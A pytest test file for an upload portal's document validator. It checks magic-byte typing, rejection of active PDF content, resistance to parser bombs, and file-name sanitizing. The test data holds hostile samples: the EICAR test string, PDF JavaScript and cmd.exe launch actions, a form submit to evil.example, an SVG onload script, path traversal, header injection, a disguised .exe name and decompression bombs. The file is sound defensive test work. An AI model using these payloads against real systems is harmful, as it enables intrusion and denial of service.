"""What a document is, is told from its bytes; what it is saved as, from its name made harmless."""

import contextlib
import time

import pytest

from cecs_app.domain.active_pdf import MOST_PACKED, UNPACKED_BYTES
from cecs_app.domain.documents import LARGEST_BYTES, LONGEST_NAME, MediaType, checked_type, tidy_name
from cecs_app.domain.errors import NotAllowed
from tests.papers import HTML, PDF, big_pdf, huge_jpeg, huge_png, jpeg, packed, pdf_with, png

THUMBNAIL = jpeg()
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""https://www.eicar.org/download-anti-malware-testfile/; in two parts, so that no scanner takes this file away."""
BOMBS = {
    "many streams": b"%PDF-1.7\n" + b"<< /ObjStm stream\n" * 550_000 + b"\nendstream\n%%EOF",
    "many ends": b"%PDF-1.7\n" + b"/ObjStm stream endstream" * 400_000 + b"\n%%EOF",
    "many letters as numbers": b"%PDF-1.7\n" + b"#2f" * 3_400_000 + b"\n%%EOF",
    "many segments": b"\xff\xd8" + b"\xff\xe0\x00\x02" * 2_600_000,
    "much padding": b"\xff\xd8" + b"\xff" * 10_000_000,
    "many chunks": b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\x00IDAT\x00\x00\x00\x00" * 870_000,
    "much in little": pdf_with(*[packed(b"0" * 30_000_000)] * 200),
}
"""What a careless reader would be busy with for hours; none is larger than a document may be."""


@pytest.mark.parametrize(
    ("content", "media_type"),
    [
        (PDF, MediaType.PDF),
        (PDF + b"\r\n\r\n" + b"\x00" * 1000, MediaType.PDF),
        (PDF[:-6] + b"%%EOF<script>alert(1)</script>", MediaType.PDF),
        (png(), MediaType.PNG),
        (png() + b"behind", MediaType.PNG),
        (jpeg(), MediaType.JPEG),
        (jpeg(THUMBNAIL, b"SEFT" * 500), MediaType.JPEG),
        (big_pdf(LARGEST_BYTES), MediaType.PDF),
        (pdf_with(b"<< /OpenAction [3 0 R /FitH 800] >>"), MediaType.PDF),
        (pdf_with(b"<< /Names << /Dests 4 0 R >> /JSON (no program) >>"), MediaType.PDF),
        (pdf_with(packed(b"1 0 << /Type /Font >>")), MediaType.PDF),
        (pdf_with(b"<< /Type /ObjStm >>\nstream\nencrypted, or packed in some other way\nendstream"), MediaType.PDF),
        (huge_png(15_000), MediaType.PNG),
        (huge_jpeg(15_000), MediaType.JPEG),
    ],
)
def test_whole_files_of_the_three_kinds_are_taken(content: bytes, media_type: MediaType) -> None:
    assert checked_type(content) is media_type


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "document_empty"),
        (b"hello", "document_type"),
        (HTML, "document_type"),
        (b" " + PDF, "document_type"),
        (b"PK\x03\x04" + PDF, "document_type"),
        (b"GIF89a" + png(), "document_type"),
        (b"\x00\x00\x00\x18ftypheic", "document_type"),
        (b"%PDF", "document_type"),
        (PDF[:-7], "document_broken"),
        (PDF + b"0" * 3000, "document_broken"),
        (jpeg()[:-2], "document_broken"),
        (jpeg(THUMBNAIL)[:-2], "document_broken"),
        (b"\xff\xd8\xff\xd9", "document_broken"),
        (b"\xff\xd8\xff" + HTML, "document_broken"),
        (b"\xff\xd8" + b"\xff" * 50, "document_broken"),
        (png()[:-12], "document_broken"),
        (png()[:-1], "document_broken"),
        (png()[:8] + png()[33:], "document_broken"),
        (b"\x89PNG\r\n\x1a\n" + b"\xff" * 100, "document_broken"),
        (big_pdf(LARGEST_BYTES + 1), "document_too_large"),
        (EICAR, "document_type"),
        (b"MZ\x90\x00" + PDF, "document_type"),
        (b"\x7fELF" + PDF, "document_type"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "document_type"),
        (b"<?xml version='1.0'?><svg/>", "document_type"),
        (b"\xef\xbb\xbf" + PDF, "document_type"),
        (b"II*\x00" + png(), "document_type"),
        (b"RIFF\x00\x00\x00\x00WEBP", "document_type"),
        (pdf_with(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), "document_active"),
        (pdf_with(b"<< /S /J#61vaScript /JS (app.alert(1)) >>"), "document_active"),
        (pdf_with(b"<< /S /#4a#41vaScript >>").replace(b"#41", b"#61"), "document_active"),
        (pdf_with(b"<< /S /Launch /F (cmd.exe) >>"), "document_active"),
        (pdf_with(b"<< /Type /EmbeddedFile >>\nstream\nMZ\nendstream"), "document_active"),
        (pdf_with(b"<< /Names << /EmbeddedFiles 4 0 R >> >>"), "document_active"),
        (pdf_with(b"<< /Subtype /RichMedia >>"), "document_active"),
        (pdf_with(b"<< /S /SubmitForm /F (https://evil.example) >>"), "document_active"),
        (pdf_with(packed(b"1 0 << /S /JavaScript /JS (x) >>")), "document_active"),
        (pdf_with(packed(b"1 0 << /S /J#61vaScript >>", name=b"/Obj#53tm")), "document_active"),
        (pdf_with(packed(b"1 0 << /Type /Font >>"), packed(b"2 0 << /S /Launch >>")), "document_active"),
        (pdf_with(packed(b"0" * (UNPACKED_BYTES + 1))), "document_active"),
        (pdf_with(b"/ObjStm stream\nendstream" * (MOST_PACKED + 1)), "document_active"),
        (huge_png(60_000), "document_huge"),
        (huge_jpeg(60_000), "document_huge"),
    ],
)
def test_what_only_looks_like_one_is_refused_in_words(content: bytes, code: str) -> None:
    with pytest.raises(NotAllowed) as refusal:
        checked_type(content)
    assert refusal.value.code == code


@pytest.mark.parametrize("bomb", BOMBS)
def test_no_file_keeps_the_portal_busy_for_long(bomb: str) -> None:
    assert len(BOMBS[bomb]) <= LARGEST_BYTES
    began = time.process_time()
    with contextlib.suppress(NotAllowed):
        checked_type(BOMBS[bomb])
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    ("name", "media_type", "tidy"),
    [
        ("Transcript.pdf", MediaType.PDF, "Transcript.pdf"),
        ("transcript.HTML", MediaType.PDF, "transcript.pdf"),
        ("photo.jpeg", MediaType.JPEG, "photo.jpg"),
        ("C:\\Users\\Ada\\my scan.png", MediaType.PNG, "my scan.png"),
        ("../../etc/passwd", MediaType.PDF, "passwd.pdf"),
        ("a\x00b\r\nSet-Cookie: x=1.pdf", MediaType.PDF, "a b Set-Cookie: x=1.pdf"),
        ("invoice\u202efdp.exe", MediaType.PDF, "invoice fdp.pdf"),
        ("", MediaType.PDF, "document.pdf"),
        ("....", MediaType.PNG, "document.png"),
        (".pdf", MediaType.PDF, "document.pdf"),
        ("Zeugnis für Ärztin 卒業.pdf", MediaType.PDF, "Zeugnis für Ärztin 卒業.pdf"),
        ("Univ. of Connecticut", MediaType.PDF, "Univ. of Connecticut.pdf"),
        ("x" * 300 + ".pdf", MediaType.PDF, "x" * (LONGEST_NAME - 4) + ".pdf"),
    ],
)
def test_a_name_keeps_no_folder_nothing_invisible_and_the_extension_of_what_it_is(
    name: str, media_type: MediaType, tidy: str
) -> None:
    assert tidy_name(name, media_type) == tidy
    assert len(tidy) <= LONGEST_NAME
